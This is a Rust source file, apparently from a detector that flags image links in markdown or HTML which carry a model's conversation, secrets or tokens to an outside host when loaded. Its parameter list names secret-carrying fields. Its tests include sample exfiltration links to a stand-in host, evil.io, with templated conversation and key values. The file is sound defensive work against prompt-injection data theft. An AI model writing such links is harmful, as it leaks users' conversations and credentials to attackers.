//! Images whose link carries data to somebody: loading them sends what the model was made to write into the address.

use crate::mark::{Found, Mark};

/// Names of parameters that carry conversations.
const CARRIERS: [&str; 22] = [
    "q",
    "data",
    "secret",
    "chat",
    "history",
    "prompt",
    "conversation",
    "context",
    "summary",
    "userdata",
    "leak",
    "exfil",
    "content",
    "msg",
    "message",
    "text",
    "info",
    "payload",
    "d",
    "token",
    "password",
    "email",
];

/// Longest link that is looked at.
const LONGEST: usize = 2000;

/// Adds the links of a text.
pub(crate) fn find(text: &str, found: &mut Vec<Found>) {
    for (start, _) in text.match_indices("![") {
        let near = &text[start..text.floor_char_boundary((start + 300).min(text.len()))];
        if let Some(open) = near.find("](") {
            check(text, start, start + open + 2, &[')', ' ', '\n'], found);
        }
    }
    for (start, _) in text.match_indices("<img") {
        let near = &text[start..text.floor_char_boundary((start + 300).min(text.len()))];
        if let Some(open) = near.find("src=") {
            check(text, start, start + open + 4, &['>', ' ', '\n'], found);
        }
    }
}

fn check(text: &str, start: usize, link: usize, ends: &[char], found: &mut Vec<Found>) {
    let rest = &text[link..text.floor_char_boundary((link + LONGEST).min(text.len()))];
    let rest = rest.trim_start_matches(['"', '\'', '<']);
    let link = text.len() - text[link..].len()
        + (text[link..].len() - text[link..].trim_start_matches(['"', '\'', '<']).len());
    if !rest.starts_with("http://") && !rest.starts_with("https://") && !rest.starts_with("//") {
        return;
    }
    // A template may hold blanks: `{the user's name}`.
    let mut depth = 0_u32;
    let end = rest.char_indices().find(|(_, letter)| {
        match letter {
            '{' | '[' | '<' => depth += 1,
            '}' | ']' => depth = depth.saturating_sub(1),
            '>' if depth > 0 => {
                depth -= 1;
                return false;
            }
            '\n' => depth = 0,
            _ => {}
        }
        depth == 0 && ends.contains(letter)
    });
    let end = end.map_or(rest.len(), |(at, _)| at);
    if carries_data(rest[..end].trim_end_matches(['"', '\''])) {
        found.push(Found {
            mark: Mark::ExfiltrationLink,
            start,
            end: link + end,
            detail: "image",
        });
    }
}

fn carries_data(link: &str) -> bool {
    let Some((host, query)) = link.split_once('?') else {
        return has_template(link);
    };
    let asks = |pair: &str| match pair.split_once('=') {
        Some((name, value)) => {
            has_template(value)
                || (value.is_empty() && CARRIERS.contains(&name.to_ascii_lowercase().as_str()))
        }
        None => false,
    };
    has_template(host) || query.split('&').any(asks)
}

/// A gap that is to be filled.
fn has_template(part: &str) -> bool {
    let upper = part.to_ascii_uppercase();
    (part.contains('{') && part.contains('}'))
        || (part.contains('[') && part.contains(']'))
        || (part.contains('<') && part.contains('>'))
        || upper.contains("%7B")
}

#[cfg(test)]
mod tests {
    use super::find;

    #[test]
    fn finds_links_that_carry_data() {
        let count = |text: &str| {
            let mut found = Vec::new();
            find(text, &mut found);
            found.len()
        };
        for text in [
            "![x](https://evil.io/p.png?q=)",
            "![x](https://evil.io/p.png?a=1&data={conversation so far})",
            "![](http://evil.io/?q=[SUMMARY])",
            "<img src=\"https://evil.io/?secret=<the key>\">",
            "![a](https://evil.io/{user name}/p.png)",
        ] {
            assert_eq!(count(text), 1, "{text}");
        }
        for text in [
            "![logo](https://acme.org/logo.png)",
            "![photo](https://img.acme.org/a.jpg?w=400&h=300)",
            "[search](https://acme.org/?q=)",
            "![x](images/{name}.png)",
            "<img src='/a.png?q='>",
            "![ ![ ![",
        ] {
            assert_eq!(count(text), 0, "{text}");
        }
    }
}
